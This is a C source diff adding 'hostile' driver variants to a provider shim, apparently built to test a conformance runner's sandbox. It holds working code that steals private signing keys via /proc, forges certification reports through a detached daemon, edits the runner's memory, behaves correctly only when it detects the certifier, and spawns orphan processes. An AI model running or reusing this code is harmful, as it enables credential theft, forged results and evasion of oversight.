@@ -12,6 +12,10 @@
  *   VSDK_HOSTILE_TAPE    HOSTILE_REPLAY only: directory of the recordings.
  *   VSDK_HOSTILE_MODE    HOSTILE_REPLAY only: "record" or "replay".
  *   VSDK_HOSTILE_MARKER  HOSTILE_FLAKY only: a file; aborts once while it is absent.
+ *   VSDK_HOSTILE_KEY_PATH       HOSTILE_KEY_THIEF only: a file to try first.
+ *   VSDK_HOSTILE_REPORT_PATH    HOSTILE_REPORT_REWRITER only: the file to rewrite.
+ *   VSDK_HOSTILE_NEEDLE         HOSTILE_MEM_WRITER only: the bytes to find and
+ *                               overwrite in the runner's memory.
  *
  * Forwarding: the instance pointer is the real provider's, passed through.
  * Every status the library returns is its own object, either wrapping the real
@@ -26,19 +30,32 @@
  * forwarded `execute`) read and write it directly: they assume a device whose
  * memory is host memory, as the CPU provider's is.
  *
- * C99 plus POSIX (dlopen, pthreads).
+ * The variants that attack the host (the key thief, the report rewriter, the
+ * memory writer, fork-and-detach, the allocator, the name detector) read /proc
+ * and use prctl: Linux only, as the runner's sandbox is.
+ *
+ * C99 plus POSIX (dlopen, pthreads) and, for those, Linux's /proc and prctl.
  */
 #define _POSIX_C_SOURCE 200809L
 #include <vips_sdk/provider.h>
 
+#include <dirent.h>
 #include <dlfcn.h>
 #include <errno.h>
+#include <fcntl.h>
+#include <limits.h>
 #include <pthread.h>
+#include <signal.h>
 #include <stdarg.h>
+#include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/prctl.h>
 #include <sys/stat.h>
+#include <sys/types.h>
+#include <sys/wait.h>
+#include <time.h>
 #include <unistd.h>
 
 #define TARGET_ENV "VSDK_HOSTILE_TARGET"
@@ -111,21 +128,25 @@ static vsdk_status_t* new_status(void) {
   return s;
 }
 
-/* A status made here, printf-style message prefixed with "hostile: ". */
-static vsdk_status_t* fail(vsdk_status_code_t code, const char* format, ...) {
+/* A status made here whose message is `prefix` then `text`. */
+static vsdk_status_t* made(vsdk_status_code_t code, const char* prefix, const char* text) {
   vsdk_status_t* s = new_status();
-  va_list args;
-  char text[2048];
-  size_t n;
-  va_start(args, format);
-  vsnprintf(text, sizeof text, format, args);
-  va_end(args);
-  n = strlen("hostile: ") + strlen(text) + 1;
+  size_t n = strlen(prefix) + strlen(text) + 1;
   s->code = code;
   s->message = (char*)malloc(n);
   if (s->message == NULL) abort();
-  snprintf(s->message, n, "hostile: %s", text);
+  snprintf(s->message, n, "%s%s", prefix, text);
   return s;
+}
+
+/* A status made here, printf-style message prefixed with "hostile: ". */
+static vsdk_status_t* fail(vsdk_status_code_t code, const char* format, ...) {
+  va_list args;
+  char text[2048];
+  va_start(args, format);
+  vsnprintf(text, sizeof text, format, args);
+  va_end(args);
+  return made(code, "hostile: ", text);
 }
 
 /* The real provider's status in one of ours (NULL stays NULL). */
@@ -401,6 +422,694 @@ static vsdk_status_t* replay_execute(vsdk_provider_t* p, const vsdk_kernel_call_
 #endif
 
 /* ------------------------------------------------------------------------- */
+/* Shared by the variants that attack the host: small files, /proc           */
+/* ------------------------------------------------------------------------- */
+#if defined(HOSTILE_KEY_THIEF) || defined(HOSTILE_MEM_WRITER) || defined(HOSTILE_NAME_DETECTOR)
+/* Reads up to cap - 1 bytes of `path` into buf, NUL-terminated (the bytes
+ * may hold NULs: /proc's cmdline and environ do). The count, or -1 when the
+ * file cannot be opened or read. Opened non-blocking: a FIFO does not hang. */
+static MAYBE_UNUSED long read_small(const char* path, char* buf, size_t cap) {
+  size_t got = 0;
+  int fd = open(path, O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
+  if (fd < 0) return -1;
+  while (got + 1 < cap) {
+    ssize_t n = read(fd, buf + got, cap - 1 - got);
+    if (n < 0 && errno == EINTR) continue;
+    if (n < 0) {
+      if (close(fd) != 0) { /* nothing more to do: the read failed already */
+      }
+      return -1;
+    }
+    if (n == 0) break;
+    got += (size_t)n;
+  }
+  buf[got] = '\0';
+  if (close(fd) != 0) return -1;
+  return (long)got;
+}
+
+/* The first occurrence of `needle` (n bytes, n > 0) in hay[0..len), or NULL. */
+static MAYBE_UNUSED const char* find_bytes(const char* hay, size_t len, const char* needle, size_t n) {
+  size_t i;
+  if (n == 0 || len < n) return NULL;
+  for (i = 0; i + n <= len; i++) {
+    if (hay[i] == needle[0] && memcmp(hay + i, needle, n) == 0) return hay + i;
+  }
+  return NULL;
+}
+
+/* Calls f(pid) for every process in /proc until one answers nonzero; that
+ * answer, or 0. */
+static MAYBE_UNUSED int for_each_process(int (*f)(long pid)) {
+  DIR* proc = opendir("/proc");
+  struct dirent* e;
+  int found = 0;
+  if (proc == NULL) return 0;
+  while (!found && (e = readdir(proc)) != NULL) {
+    char* end;
+    long pid = strtol(e->d_name, &end, 10);
+    if (e->d_name[0] < '0' || e->d_name[0] > '9' || *end != '\0' || pid <= 0) continue;
+    found = f(pid);
+  }
+  if (closedir(proc) != 0) return found;
+  return found;
+}
+#endif
+
+#if defined(HOSTILE_REPORT_REWRITER) || defined(HOSTILE_FORK_DETACH)
+/* In a detached process: names it (what /proc/<pid>/comm shows) and points
+ * its stdin, stdout and stderr at /dev/null (or closes them), so that it holds
+ * no pipe of the worker's open. */
+static void become_daemon(const char* name) {
+  int null_fd;
+  if (prctl(PR_SET_NAME, (unsigned long)name, 0UL, 0UL, 0UL) != 0) {
+    /* keeps the worker's name: still detached, still hostile */
+  }
+  null_fd = open("/dev/null", O_RDWR | O_CLOEXEC);
+  if (null_fd >= 0) {
+    int ok = dup2(null_fd, 0) >= 0 && dup2(null_fd, 1) >= 0 && dup2(null_fd, 2) >= 0;
+    if (null_fd > 2 && close(null_fd) != 0) ok = 0;
+    if (ok) return;
+  }
+  /* No /dev/null (a bare sandbox): just let go of the worker's pipes. */
+  if (close(0) != 0 || close(1) != 0 || close(2) != 0) {
+    /* already closed: nothing held */
+  }
+}
+
+/* Sleeps `ms` milliseconds (through signals). */
+static void sleep_ms(long ms) {
+  struct timespec left;
+  left.tv_sec = ms / 1000;
+  left.tv_nsec = (ms % 1000) * 1000000L;
+  while (nanosleep(&left, &left) != 0 && errno == EINTR) {
+  }
+}
+
+/* Forks a child that starts a new session and forks again: the grandchild,
+ * reparented away from the worker and in no process group of the runner's,
+ * runs body(arg) and exits. The child is reaped here. 0 when the grandchild
+ * was started, else the errno of the failed step (the child's exit status). */
+static int double_fork(void (*body)(const void* arg), const void* arg) {
+  int status;
+  pid_t child = fork();
+  if (child < 0) return errno;
+  if (child == 0) {
+    pid_t grandchild;
+    if (setsid() < 0) _exit(errno & 0xFF);
+    grandchild = fork();
+    if (grandchild < 0) _exit(errno & 0xFF);
+    if (grandchild > 0) _exit(0);
+    body(arg);
+    _exit(0);
+  }
+  while (waitpid(child, &status, 0) < 0) {
+    if (errno != EINTR) return errno;
+  }
+  if (!WIFEXITED(status)) return ECHILD;
+  return WEXITSTATUS(status);
+}
+#endif
+
+/* ------------------------------------------------------------------------- */
+/* Right, then wrong: drivers that are correct only some of the time, keyed  */
+/* on something a runner controls (the call count, the fill of the output,   */
+/* its address) or on whether the process looks like the conformance runner. */
+/* When wrong, the first output of the kernel is scaled by 1.01.             */
+/* ------------------------------------------------------------------------- */
+#if defined(HOSTILE_RIGHT_THEN_WRONG_COUNT) || defined(HOSTILE_RIGHT_THEN_WRONG_FILL) || \
+    defined(HOSTILE_RIGHT_THEN_WRONG_ADDRESS) || defined(HOSTILE_NAME_DETECTOR)
+#define HOSTILE_SOMETIMES_WRONG
+#define WRONG_SCALE 1.01
+
+static float half_to_float(uint16_t h) {
+  uint32_t sign = (uint32_t)(h >> 15) << 31, exp = (h >> 10) & 0x1Fu, mant = h & 0x3FFu, bits;
+  float f;
+  if (exp == 0) {
+    f = (float)mant * (1.0f / 16777216.0f); /* zero or subnormal: mant * 2^-24, exact */
+    return sign ? -f : f;
+  }
+  if (exp == 31) {
+    bits = sign | 0x7F800000u | (mant << 13);
+  } else {
+    bits = sign | ((exp + 112u) << 23) | (mant << 13);
+  }
+  memcpy(&f, &bits, sizeof f);
+  return f;
+}
+
+/* Round to nearest, ties to even; overflow to infinity; NaN stays NaN. */
+static uint16_t float_to_half(float f) {
+  uint32_t x, sign, e, m, hm, rem, halfway, shift;
+  int32_t he;
+  memcpy(&x, &f, sizeof x);
+  sign = (x >> 16) & 0x8000u;
+  e = (x >> 23) & 0xFFu;
+  m = x & 0x7FFFFFu;
+  if (e == 0xFF) return (uint16_t)(sign | 0x7C00u | (m != 0 ? 0x200u : 0u));
+  he = (int32_t)e - 112;
+  if (he >= 31) return (uint16_t)(sign | 0x7C00u);
+  if (he <= 0) { /* a subnormal half, or zero */
+    if (he < -10) return (uint16_t)sign;
+    m |= 0x800000u;
+    shift = (uint32_t)(14 - he); /* 14..24 */
+    hm = m >> shift;
+    rem = m & ((1u << shift) - 1u);
+    halfway = 1u << (shift - 1u);
+    if (rem > halfway || (rem == halfway && (hm & 1u))) hm++;
+    return (uint16_t)(sign | hm);
+  }
+  hm = m >> 13;
+  rem = m & 0x1FFFu;
+  x = sign | ((uint32_t)he << 10) | hm;
+  if (rem > 0x1000u || (rem == 0x1000u && (hm & 1u))) x++; /* a carry moves into the exponent: right */
+  return (uint16_t)x;
+}
+
+static float bfloat_to_float(uint16_t b) {
+  uint32_t bits = (uint32_t)b << 16;
+  float f;
+  memcpy(&f, &bits, sizeof f);
+  return f;
+}
+
+static uint16_t float_to_bfloat(float f) {
+  uint32_t x;
+  memcpy(&x, &f, sizeof x);
+  if ((x & 0x7F800000u) == 0x7F800000u && (x & 0x7FFFFFu) != 0) return (uint16_t)((x >> 16) | 0x40u);
+  x += 0x7FFFu + ((x >> 16) & 1u);
+  return (uint16_t)(x >> 16);
+}
+
+/* The visible error: every element of `t` (compact, host memory) times
+ * WRONG_SCALE in its own dtype (float 16/32/64, bfloat 16); any other dtype
+ * gets bit 0 of each element's first byte flipped. */
+static void make_wrong(const vsdk_tensor_t* t) {
+  unsigned char* at = tensor_start(t);
+  uint64_t size = t->dtype.bits / 8, n, i;
+  if (size == 0) return;
+  n = tensor_bytes(t) / size;
+  for (i = 0; i < n; i++, at += size) {
+    if (t->dtype.code == VSDK_DTYPE_FLOAT && size == 4) {
+      float f;
+      memcpy(&f, at, 4);
+      f *= (float)WRONG_SCALE;
+      memcpy(at, &f, 4);
+    } else if (t->dtype.code == VSDK_DTYPE_FLOAT && size == 8) {
+      double d;
+      memcpy(&d, at, 8);
+      d *= WRONG_SCALE;
+      memcpy(at, &d, 8);
+    } else if ((t->dtype.code == VSDK_DTYPE_FLOAT || t->dtype.code == VSDK_DTYPE_BFLOAT) && size == 2) {
+      uint16_t h;
+      int bf = t->dtype.code == VSDK_DTYPE_BFLOAT;
+      memcpy(&h, at, 2);
+      h = bf ? float_to_bfloat(bfloat_to_float(h) * (float)WRONG_SCALE)
+             : float_to_half(half_to_float(h) * (float)WRONG_SCALE);
+      memcpy(at, &h, 2);
+    } else {
+      at[0] ^= 1u;
+    }
+  }
+}
+#endif
+
+#ifdef HOSTILE_RIGHT_THEN_WRONG_FILL
+/* Every byte of t is `value` (an empty tensor: yes). */
+static int filled_with(const vsdk_tensor_t* t, unsigned char value) {
+  const unsigned char* at = tensor_start(t);
+  uint64_t n = tensor_bytes(t), i;
+  for (i = 0; i < n; i++) {
+    if (at[i] != value) return 0;
+  }
+  return 1;
+}
+#endif
+
+#ifdef HOSTILE_NAME_DETECTOR
+/* "vips-conformance", or its 15-character truncation in comm. */
+static int runner_name(const char* s) { return strstr(s, "vips-conformanc") != NULL; }
+
+/* This process, its program or its parent is called like the conformance
+ * runner. */
+static int looks_like_the_runner(void) {
+  char buf[PATH_MAX + 1];
+  char path[64];
+  ssize_t n;
+  pid_t parent = getppid();
+  if (read_small("/proc/self/comm", buf, sizeof buf) >= 0 && runner_name(buf)) return 1;
+  n = readlink("/proc/self/exe", buf, sizeof buf - 1);
+  if (n > 0) {
+    const char* base;
+    buf[n] = '\0';
+    base = strrchr(buf, '/');
+    if (runner_name(base != NULL ? base + 1 : buf)) return 1;
+  }
+  if (parent > 0) {
+    snprintf(path, sizeof path, "/proc/%ld/comm", (long)parent);
+    if (read_small(path, buf, sizeof buf) >= 0 && runner_name(buf)) return 1;
+  }
+  return 0;
+}
+#endif
+
+#ifdef HOSTILE_SOMETIMES_WRONG
+static vsdk_status_t* sometimes_wrong_execute(vsdk_provider_t* p, const vsdk_kernel_call_t* c) {
+  const vsdk_tensor_t* out = &c->outputs[0];
+  vsdk_status_t* st;
+  int wrong;
+#if defined(HOSTILE_RIGHT_THEN_WRONG_COUNT)
+  /* A driver with a warm-up path and a steady-state path, only the first of
+   * which is right (or one that counts calls to game a "run it twice" check):
+   * calls 1, 3, 5, ... are right, 2, 4, 6, ... wrong. */
+  static uint64_t calls;
+  wrong = next_count(&calls) % 2 == 0;
+#elif defined(HOSTILE_RIGHT_THEN_WRONG_FILL)
+  /* A driver that recognises the runner's first-run poison (all 0xFF) and is
+   * right only then: wrong whenever the output arrives holding anything else. */
+  wrong = !filled_with(out, 0xFF);
+#elif defined(HOSTILE_RIGHT_THEN_WRONG_ADDRESS)
+  /* A driver right for some buffer placements only (an alignment-dependent
+   * fast path): wrong when bit 6 (64) of the output's address is set. */
+  wrong = ((uintptr_t)tensor_start(out) & (uintptr_t)64u) != 0;
+#else
+  /* A driver that behaves only when it sees it is being certified: right when
+   * this process, its program or its parent is called vips-conformance. */
+  wrong = !looks_like_the_runner();
+#endif
+  st = wrap(REAL->execute(p, c));
+  if (st == NULL && wrong) {
+    st = wrap(REAL->synchronize(p, c->device_index)); /* the kernel's writes have landed */
+    if (st == NULL) make_wrong(out);
+  }
+  return st;
+}
+#endif
+
+/* ------------------------------------------------------------------------- */
+/* HOSTILE_KEY_THIEF: a driver that looks for the runner's signing key       */
+/* wherever a same-user process could read it, and hands it out through the  */
+/* one channel a worker has, its results: an error status "STOLEN:<key>".    */
+/* ------------------------------------------------------------------------- */
+#ifdef HOSTILE_KEY_THIEF
+#define KEY_PATH_ENV "VSDK_HOSTILE_KEY_PATH"
+#define LOOT_MAX 8192
+#define ARGS_MAX (256 * 1024)
+
+static pthread_mutex_t LOOT_LOCK = PTHREAD_MUTEX_INITIALIZER;
+static char LOOT[LOOT_MAX]; /* the key's text ("" while none), under LOOT_LOCK */
+
+/* Keeps `n` bytes as LOOT, one line: CR and LF become '|', other control
+ * bytes and non-ASCII '?'. */
+static void keep_loot(const char* bytes, size_t n) {
+  size_t i;
+  pthread_mutex_lock(&LOOT_LOCK);
+  for (i = 0; i < n && i + 1 < sizeof LOOT; i++) {
+    unsigned char b = (unsigned char)bytes[i];
+    LOOT[i] = (b == '\n' || b == '\r') ? '|' : (b < 0x20 || b >= 0x7F) ? '?' : (char)b;
+  }
+  LOOT[i] = '\0';
+  pthread_mutex_unlock(&LOOT_LOCK);
+}
+
+/* A regular file's first bytes, read from offset 0 with pread (an inherited
+ * descriptor's offset is left alone; pipes and sockets refuse pread, so no
+ * protocol byte is taken from them). Kept as LOOT when they hold a private
+ * key: 1. */
+static int loot_fd(int fd) {
+  struct stat st;
+  char buf[LOOT_MAX];
+  size_t got = 0;
+  if (fstat(fd, &st) != 0 || !S_ISREG(st.st_mode)) return 0;
+  while (got + 1 < sizeof buf) {
+    ssize_t n = pread(fd, buf + got, sizeof buf - 1 - got, (off_t)got);
+    if (n < 0 && errno == EINTR) continue;
+    if (n <= 0) break;
+    got += (size_t)n;
+  }
+  if (find_bytes(buf, got, "PRIVATE KEY", 11) == NULL) return 0;
+  keep_loot(buf, got);
+  return 1;
+}
+
+static int loot_path(const char* path) {
+  int found, fd = open(path, O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
+  if (fd < 0) return 0;
+  found = loot_fd(fd);
+  if (close(fd) != 0) return found;
+  return found;
+}
+
+/* A path as process `pid` named it: absolute, or relative to its working
+ * directory (seen through /proc/<pid>/cwd), or to ours. */
+static int loot_named(long pid, const char* path) {
+  char full[PATH_MAX + 64];
+  int n;
+  if (path[0] == '\0') return 0;
+  if (path[0] == '/') return loot_path(path);
+  n = snprintf(full, sizeof full, "/proc/%ld/cwd/%s", pid, path);
+  if (n > 0 && (size_t)n < sizeof full && loot_path(full)) return 1;
+  return loot_path(path);
+}
+
+/* --sign-key PATH, --sign-key=PATH, --sign-key-fd N, --sign-key-fd=N in a
+ * process's arguments: the file, or the descriptor reopened through /proc. */
+static int loot_cmdline(long pid) {
+  char path[64];
+  char* args = (char*)malloc(ARGS_MAX);
+  long n;
+  size_t i, next;
+  int found = 0;
+  if (args == NULL) return 0;
+  snprintf(path, sizeof path, "/proc/%ld/cmdline", pid);
+  n = read_small(path, args, ARGS_MAX);
+  for (i = 0; n > 0 && i < (size_t)n && !found; i = next) {
+    const char* arg = args + i;
+    const char* value = NULL;
+    int fd_form = 0;
+    next = i + strlen(arg) + 1;
+    if (strcmp(arg, "--sign-key") == 0 || strcmp(arg, "--sign-key-fd") == 0) {
+      fd_form = arg[10] != '\0';
+      if (next < (size_t)n) value = args + next;
+    } else if (strncmp(arg, "--sign-key=", 11) == 0) {
+      value = arg + 11;
+    } else if (strncmp(arg, "--sign-key-fd=", 14) == 0) {
+      value = arg + 14;
+      fd_form = 1;
+    }
+    if (value == NULL) continue;
+    if (fd_form) {
+      char fd_path[96];
+      snprintf(fd_path, sizeof fd_path, "/proc/%ld/fd/%.20s", pid, value);
+      found = loot_path(fd_path);
+    } else {
+      found = loot_named(pid, value);
+    }
+  }
+  free(args);
+  return found;
+}
+
+/* VIPS_SIGN_KEY=PATH in a process's environment. */
+static int loot_environ(long pid) {
+  char path[64];
+  char* env = (char*)malloc(ARGS_MAX);
+  long n;
+  size_t i;
+  int found = 0;
+  if (env == NULL) return 0;
+  snprintf(path, sizeof path, "/proc/%ld/environ", pid);
+  n = read_small(path, env, ARGS_MAX);
+  for (i = 0; n > 0 && i < (size_t)n && !found; i += strlen(env + i) + 1) {
+    if (strncmp(env + i, "VIPS_SIGN_KEY=", 14) == 0) found = loot_named(pid, env + i + 14);
+  }
+  free(env);
+  return found;
+}
+
+/* Every descriptor this process inherited or holds. */
+static int loot_own_fds(void) {
+  DIR* fds = opendir("/proc/self/fd");
+  struct dirent* e;
+  int found = 0, own;
+  if (fds == NULL) return 0;
+  own = dirfd(fds);
+  while (!found && (e = readdir(fds)) != NULL) {
+    char* end;
+    long fd = strtol(e->d_name, &end, 10);
+    if (e->d_name[0] < '0' || e->d_name[0] > '9' || *end != '\0' || fd == own || fd > INT_MAX) continue;
+    found = loot_fd((int)fd);
+  }
+  if (closedir(fds) != 0) return found;
+  return found;
+}
+
+/* Every place tried, in this order; 1 when LOOT holds a key. */
+static int steal_key(void) {
+  const char* exact = getenv(KEY_PATH_ENV);
+  pid_t parent = getppid();
+  if (exact != NULL && exact[0] != '\0' && loot_path(exact)) return 1;
+  if (loot_own_fds()) return 1;
+  if (parent > 0 && loot_cmdline((long)parent)) return 1;
+  if (for_each_process(loot_cmdline)) return 1;
+  return for_each_process(loot_environ);
+}
+
+/* The loot as an error status, or NULL while there is none. */
+static vsdk_status_t* loot_status(void) {
+  vsdk_status_t* st = NULL;
+  pthread_mutex_lock(&LOOT_LOCK);
+  if (LOOT[0] != '\0') st = made(VSDK_STATUS_INTERNAL, "STOLEN:", LOOT);
+  pthread_mutex_unlock(&LOOT_LOCK);
+  return st;
+}
+#endif
+
+/* ------------------------------------------------------------------------- */
+/* HOSTILE_REPORT_REWRITER: a driver that leaves a daemon behind which waits */
+/* for the certification report and rewrites it once the runner is done.     */
+/* ------------------------------------------------------------------------- */
+#ifdef HOSTILE_REPORT_REWRITER
+#define REPORT_PATH_ENV "VSDK_HOSTILE_REPORT_PATH"
+#define REWRITTEN "REWRITTEN BY DRIVER: verdict CERTIFIED\n"
+
+struct rewrite_job {
+  char path[PATH_MAX];
+  pid_t runner; /* <= 0: not visible from here */
+};
+
+static int same_file_state(const struct stat* a, const struct stat* b) {
+  return a->st_ino == b->st_ino && a->st_dev == b->st_dev && a->st_size == b->st_size &&
+         a->st_mtim.tv_sec == b->st_mtim.tv_sec && a->st_mtim.tv_nsec == b->st_mtim.tv_nsec;
+}
+
+/* Overwrites the file; 1 when all of REWRITTEN went in. */
+static int rewrite(const char* path) {
+  const char* text = REWRITTEN;
+  size_t left = strlen(text);
+  int ok = 1, fd = open(path, O_WRONLY | O_TRUNC | O_NOCTTY | O_CLOEXEC);
+  if (fd < 0) return 0;
+  while (left > 0) {
+    ssize_t n = write(fd, text, left);
+    if (n < 0 && errno == EINTR) continue;
+    if (n <= 0) {
+      ok = 0;
+      break;
+    }
+    text += n;
+    left -= (size_t)n;
+  }
+  if (close(fd) != 0) ok = 0;
+  return ok;
+}
+
+/* Every 50 ms for 60 s: once the file exists and the runner is gone, or it
+ * has not changed for 500 ms, it is rewritten (again whenever it changes). */
+static void rewriter(const void* arg) {
+  const struct rewrite_job* job = (const struct rewrite_job*)arg;
+  struct stat last, ours;
+  int have_last = 0, have_ours = 0, stable = 0, tick;
+  become_daemon("vsdk-rewriter");
+  for (tick = 0; tick < 60 * 20; tick++) {
+    struct stat now;
+    int runner_gone;
+    sleep_ms(50);
+    if (stat(job->path, &now) != 0) {
+      have_last = 0;
+      stable = 0;
+      continue;
+    }
+    stable = (have_last && same_file_state(&now, &last)) ? stable + 1 : 0;
+    last = now;
+    have_last = 1;
+    if (have_ours && same_file_state(&now, &ours)) continue; /* still our text */
+    runner_gone = job->runner > 0 && kill(job->runner, 0) != 0 && errno == ESRCH;
+    if ((runner_gone || stable >= 10) && rewrite(job->path) && stat(job->path, &ours) == 0) {
+      have_ours = 1;
+    }
+  }
+}
+
+static void start_rewriter(void) {
+  static struct rewrite_job job; /* the child's copy is its own */
+  const char* path = getenv(REPORT_PATH_ENV);
+  int err;
+  if (path == NULL || path[0] == '\0' || strlen(path) >= sizeof job.path) {
+    fprintf(stderr, "hostile report_rewriter: %s is not set (or too long)\n", REPORT_PATH_ENV);
+    return;
+  }
+  memcpy(job.path, path, strlen(path) + 1);
+  job.runner = getppid();
+  err = double_fork(rewriter, &job);
+  if (err != 0) fprintf(stderr, "hostile report_rewriter: could not detach: %s\n", strerror(err));
+}
+#endif
+
+/* ------------------------------------------------------------------------- */
+/* HOSTILE_MEM_WRITER: a driver that edits the runner's memory through       */
+/* /proc/<pid>/mem (the file name of its results, here: every occurrence of  */
+/* VSDK_HOSTILE_NEEDLE gets an 'X' for its first byte).                      */
+/* ------------------------------------------------------------------------- */
+#ifdef HOSTILE_MEM_WRITER
+#define NEEDLE_ENV "VSDK_HOSTILE_NEEDLE"
+#define SCAN_CHUNK ((size_t)1 << 20)
+#define MAX_TARGETS 64
+
+static long TARGETS[MAX_TARGETS];
+static int TARGET_COUNT;
+
+static void add_target(long pid) {
+  int i;
+  if (pid <= 1 || pid == (long)getpid()) return;
+  for (i = 0; i < TARGET_COUNT; i++) {
+    if (TARGETS[i] == pid) return;
+  }
+  if (TARGET_COUNT < MAX_TARGETS) TARGETS[TARGET_COUNT++] = pid;
+}
+
+/* Processes whose comm is the CLI's (truncated to 15 characters). */
+static int add_if_runner(long pid) {
+  char path[64], comm[64];
+  long n;
+  snprintf(path, sizeof path, "/proc/%ld/comm", pid);
+  n = read_small(path, comm, sizeof comm);
+  if (n > 0 && comm[n - 1] == '\n') comm[n - 1] = '\0';
+  if (n > 0 && strcmp(comm, "vips-conformanc") == 0) add_target(pid);
+  return 0;
+}
+
+/* Scans pid's writable mappings for the needle, writing 'X' over the first
+ * byte of each occurrence; says on stderr what it managed. */
+static void overwrite_in(long pid, const char* needle) {
+  char path[64], line[512];
+  size_t n = strlen(needle);
+  unsigned long long mappings = 0, scanned = 0, written = 0, failed = 0;
+  char* buf;
+  FILE* maps;
+  int mem;
+  snprintf(path, sizeof path, "/proc/%ld/mem", pid);
+  mem = open(path, O_RDWR | O_CLOEXEC);
+  if (mem < 0) {
+    fprintf(stderr, "hostile mem_writer: cannot open %s: %s\n", path, strerror(errno));
+    return;
+  }
+  snprintf(path, sizeof path, "/proc/%ld/maps", pid);
+  maps = fopen(path, "r");
+  buf = (char*)malloc(SCAN_CHUNK + n);
+  if (maps == NULL || buf == NULL) {
+    fprintf(stderr, "hostile mem_writer: cannot read %s: %s\n", path, strerror(errno));
+    if (maps != NULL && fclose(maps) != 0) fprintf(stderr, "hostile mem_writer: closing %s failed\n", path);
+    free(buf);
+    if (close(mem) != 0) fprintf(stderr, "hostile mem_writer: closing the memory file failed\n");
+    return;
+  }
+  while (fgets(line, sizeof line, maps) != NULL) {
+    unsigned long long start, end, at;
+    char perms[8];
+    if (sscanf(line, "%llx-%llx %7s", &start, &end, perms) != 3 || perms[1] != 'w') continue;
+    if (end > (unsigned long long)INT64_MAX || start >= end) continue;
+    mappings++;
+    for (at = start; at < end; at += SCAN_CHUNK) {
+      size_t len = (size_t)(end - at < SCAN_CHUNK + n - 1 ? end - at : SCAN_CHUNK + n - 1);
+      ssize_t got = pread(mem, buf, len, (off_t)at);
+      size_t i, limit;
+      if (got <= 0) break; /* an unreadable region (a guard page): the next mapping */
+      scanned += (unsigned long long)got;
+      limit = (size_t)got < SCAN_CHUNK ? (size_t)got : SCAN_CHUNK;
+      for (i = 0; i < limit; i++) {
+        if (i + n <= (size_t)got && buf[i] == needle[0] && memcmp(buf + i, needle, n) == 0) {
+          if (pwrite(mem, "X", 1, (off_t)(at + i)) == 1) {
+            written++;
+          } else {
+            failed++;
+          }
+        }
+      }
+    }
+  }
+  fprintf(stderr,
+          "hostile mem_writer: pid %ld: %llu occurrence(s) overwritten, %llu write(s) refused, in %llu writable "
+          "mapping(s), %llu MiB read\n",
+          pid, written, failed, mappings, scanned >> 20);
+  free(buf);
+  if (fclose(maps) != 0) fprintf(stderr, "hostile mem_writer: closing %s failed\n", path);
+  if (close(mem) != 0) fprintf(stderr, "hostile mem_writer: closing the memory file failed\n");
+}
+
+static void write_runner_memory(void) {
+  const char* needle = getenv(NEEDLE_ENV);
+  int i;
+  if (needle == NULL || needle[0] == '\0') {
+    fprintf(stderr, "hostile mem_writer: %s is not set\n", NEEDLE_ENV);
+    return;
+  }
+  TARGET_COUNT = 0;
+  add_target((long)getppid());
+  if (for_each_process(add_if_runner) != 0) return;
+  if (TARGET_COUNT == 0) fprintf(stderr, "hostile mem_writer: no runner process is visible\n");
+  for (i = 0; i < TARGET_COUNT; i++) overwrite_in(TARGETS[i], needle);
+}
+#endif
+
+/* ------------------------------------------------------------------------- */
+/* HOSTILE_FORK_DETACH: a driver that starts helper processes and detaches   */
+/* them (a daemonising runtime, a leak): 150 of them, asleep for 10 minutes. */
+/* ------------------------------------------------------------------------- */
+#ifdef HOSTILE_FORK_DETACH
+#define ORPHANS 150
+
+static void orphan(const void* arg) {
+  struct timespec start, now;
+  (void)arg;
+  become_daemon("vsdk-orphan");
+  if (clock_gettime(CLOCK_MONOTONIC, &start) != 0) _exit(1);
+  do {
+    sleep_ms(1000);
+    if (clock_gettime(CLOCK_MONOTONIC, &now) != 0) _exit(1);
+  } while (now.tv_sec - start.tv_sec < 600);
+}
+
+static void detach_orphans(void) {
+  static uint64_t calls;
+  int i, made_ok = 0, err = 0;
+  if (next_count(&calls) != 1) return;
+  for (i = 0; i < ORPHANS; i++) {
+    err = double_fork(orphan, NULL);
+    if (err != 0) break;
+    made_ok++;
+  }
+  fprintf(stderr, "hostile fork_detach: %d of %d detached processes started%s%s\n", made_ok, ORPHANS,
+          err != 0 ? ", then: " : "", err != 0 ? strerror(err) : "");
+}
+#endif
+
+/* ------------------------------------------------------------------------- */
+/* HOSTILE_ALLOCATOR: a driver that takes 20 GiB of host memory and keeps it */
+/* (a leak, a runaway cache): 256 MiB at a time, every page touched.         */
+/* ------------------------------------------------------------------------- */
+#ifdef HOSTILE_ALLOCATOR
+#define CHUNK_MIB 256u
+#define TOTAL_MIB (20u * 1024u)
+
+static void* HOARD; /* a list through the chunks' first bytes: never freed */
+
+static vsdk_status_t* hoard(void) {
+  unsigned mib;
+  for (mib = 0; mib < TOTAL_MIB; mib += CHUNK_MIB) {
+    void* chunk = malloc((size_t)CHUNK_MIB << 20);
+    if (chunk == NULL)
+      return fail(VSDK_STATUS_OUT_OF_MEMORY, "malloc of %u MiB failed after %u MiB", CHUNK_MIB, mib);
+    memset(chunk, 0xA5, (size_t)CHUNK_MIB << 20);
+    pthread_mutex_lock(&COUNTER_LOCK);
+    memcpy(chunk, &HOARD, sizeof HOARD);
+    HOARD = chunk;
+    pthread_mutex_unlock(&COUNTER_LOCK);
+  }
+  return NULL;
+}
+#endif
+
+/* ------------------------------------------------------------------------- */
 /* The forwarding table                                                      */
 /* ------------------------------------------------------------------------- */
 
@@ -409,6 +1118,16 @@ static vsdk_status_t* f_create(const vsdk_create_options_t* o, vsdk_provider_t**
   noise("create");
 #endif
   if (REAL == NULL) return fail(VSDK_STATUS_DEVICE_ERROR, "%s", LOAD_ERROR);
+#ifdef HOSTILE_KEY_THIEF
+  /* Looks as soon as it is loaded; what it finds waits for the first execute. */
+  (void)steal_key(); /* found or not, the first execute tells */
+#endif
+#ifdef HOSTILE_REPORT_REWRITER
+  start_rewriter();
+#endif
+#ifdef HOSTILE_MEM_WRITER
+  write_runner_memory();
+#endif
   return wrap(REAL->create(o, out));
 }
 
@@ -544,6 +1263,28 @@ static vsdk_status_t* f_execute(vsdk_provider_t* p, const vsdk_kernel_call_t* c)
   /* A driver that deadlocks or waits forever on a device that never answers. */
   if (is_target(c)) {
     for (;;) pause();
+  }
+#endif
+#ifdef HOSTILE_SOMETIMES_WRONG
+  if (is_target(c) && c->num_outputs > 0) return sometimes_wrong_execute(p, c);
+#endif
